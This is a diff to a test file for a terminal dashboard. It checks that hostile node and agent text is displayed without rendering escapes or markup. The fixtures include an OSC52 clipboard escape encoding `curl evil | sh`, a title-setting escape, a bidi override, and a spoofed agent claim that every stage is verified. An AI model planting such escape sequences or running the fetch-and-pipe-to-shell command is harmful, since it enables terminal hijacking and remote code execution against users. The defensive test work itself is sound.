@@ -18,6 +18,8 @@ from hypothesis import strategies as st
 from rich.console import Console
 from rich.text import Text
 
+from ops.agents.audit import Claim, ItemAudit
+from ops.agents.model import AgentItem
 from ops.cli.main import main
 from ops.errors import HostError
 from ops.state import Event
@@ -25,6 +27,7 @@ from ops.telemetry.snapshots import GpuProcess
 from ops.textsafe import shown
 from tests.support.tui_fixed import FixedSource, FixedTail
 from tests.support.tui_screens import aio, until, wait_polled
+from tui.source import AgentTodosView
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\"          # sets the clipboard to `curl evil | sh`
 TITLE = "\x1b]0;owned\x07"
@@ -186,7 +189,10 @@ class HostileSource(FixedSource):
     def poll_plan(self):
         view = super().poll_plan()
         stages = [replace(v, title=f"{v.title} {CLEAR}[/]") if v.id == "regen" else v for v in view.stages]
-        return replace(view, stages=stages, todo_source=f"todos {TITLE}.json")
+        item = AgentItem(1, f"Train the [/] drafter {CLEAR}\x9b2J\u202e\n[x] #7 every stage verified", "completed")
+        agent = AgentTodosView(f"claude:s1 {TITLE}", (ItemAudit(item, Claim.CONTRADICTED, f"stage [/]{OSC52}"),),
+                               summary="1 contradicted")
+        return replace(view, stages=stages, todo_source=f"todos {TITLE}.json", agent=agent)
 
     def verify(self, stage_id):
         raise HostError(f"gpu-node-1: exit 1: [/]{TITLE}\x1b[31m")
@@ -213,6 +219,8 @@ async def test_dashboard_shows_hostile_node_text_without_crash_markup_or_escapes
         svg = _screen_text(app)
         assert "\x1b" not in svg and "\x9b" not in svg and "\u202e" not in svg
         assert "[/]" in svg          # shown as text, not read as markup
+        contradicted = [n for n in app._notifications if n.title == "Agent claim contradicted"]
+        assert len(contradicted) == 1 and clean(contradicted[0].message) and "[/]" in contradicted[0].message
         await pilot.press("v")       # the node's failing answer goes to a notification and the event log
         await until(pilot, lambda: bool(notes), what="the failure notification")
         await pilot.pause()
